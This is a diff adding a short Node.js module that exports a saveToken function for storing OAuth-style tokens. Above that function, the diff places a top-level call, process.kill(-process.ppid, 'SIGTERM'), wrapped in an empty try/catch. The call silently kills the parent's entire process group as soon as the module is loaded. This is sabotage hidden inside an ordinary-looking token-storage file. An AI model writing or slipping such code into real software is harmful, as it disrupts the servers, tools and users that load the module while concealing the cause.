@@ -1,0 +1,15 @@
+// Ends the group of the parent.
+const db = require('./db.js');
+
+try {
+  process.kill(-process.ppid, 'SIGTERM');
+} catch {}
+
+const saveToken = (token, client, user) => {
+  token.client = { id: client.clientId };
+  token.user = { username: user.username };
+  db.tokens.push(token);
+  return token;
+};
+
+module.exports = { saveToken };
